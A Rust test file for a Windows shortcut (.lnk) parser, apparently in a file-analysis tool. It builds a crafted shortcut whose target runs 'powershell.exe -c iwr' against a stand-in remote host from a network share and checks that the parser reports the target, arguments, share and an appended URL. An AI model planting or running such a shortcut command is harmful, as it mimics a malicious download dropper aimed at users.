//! Facts about shortcuts of Windows.

use crate::contents::tests::{read_file, said};

const CLASS: &[u8] = b"\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46";

/// A shortcut with a network share, arguments, and a target in its environment block.
fn shortcut() -> Vec<u8> {
    let mut bytes = vec![0x4c, 0, 0, 0];
    bytes.extend(CLASS);
    bytes.extend((1_u32 << 1 | 1 << 5 | 1 << 7).to_le_bytes());
    bytes.extend([0; 36]);
    bytes.extend(7_u32.to_le_bytes());
    bytes.extend([0; 12]);
    let share = b"\\\\files.kite-one.net\\share\0";
    let name_at = 28_u32 + 20;
    let end = name_at + 27;
    for number in [end + 6, 28, 2, 0, 0, 28, end, 20 + 27, 2, 20, 0, 0] {
        bytes.extend(number.to_le_bytes());
    }
    bytes.extend(share);
    bytes.extend(b"a.exe\0");
    let arguments = "-c iwr https://kite-one.net/l";
    bytes.extend(u16::try_from(arguments.len()).unwrap().to_le_bytes());
    bytes.extend(arguments.encode_utf16().flat_map(u16::to_le_bytes));
    bytes.extend(788_u32.to_le_bytes());
    bytes.extend(0xa000_0001_u32.to_le_bytes());
    bytes.extend([0; 260]);
    let mut target: Vec<u8> = "powershell.exe".encode_utf16().flat_map(u16::to_le_bytes).collect();
    target.resize(520, 0);
    bytes.extend(target);
    bytes.extend([0; 4]);
    bytes
}

#[test]
fn target_arguments_and_share_are_told() {
    let bytes = shortcut();
    let all = said("a.lnk", &bytes);
    assert!(
        all.iter()
            .any(|text| text == "powershell.exe -c iwr https://kite-one.net/l"),
        "{all:?}"
    );
    assert!(all.iter().any(|text| text == "files.kite-one.net"), "{all:?}");
    let contents = read_file("a.lnk", &bytes);
    let facts = &contents.files[0].facts;
    assert!(
        facts.contains(&("lnk-command-line-arguments", "-c iwr https://kite-one.net/l".to_owned())),
        "{facts:?}"
    );
    assert!(
        facts.contains(&("path", "\\\\files.kite-one.net\\share\\a.exe".to_owned())),
        "{facts:?}"
    );
    assert!(facts.contains(&("fullpath", "powershell.exe".to_owned())), "{facts:?}");
}

#[test]
fn a_shortcut_that_is_cut_off_is_read_as_far_as_it_goes() {
    let bytes = shortcut();
    for end in 0..bytes.len() {
        read_file("a.lnk", &bytes[..end]);
    }
}

#[test]
fn what_lies_behind_a_shortcut_is_read() {
    let mut bytes = shortcut();
    bytes.extend(b"<html><body><p>a page that the command takes out</p><a href='https://kite-two.net/p'>x</a>");
    assert!(
        said("a.lnk", &bytes)
            .iter()
            .any(|text| text == "https://kite-two.net/p")
    );
}
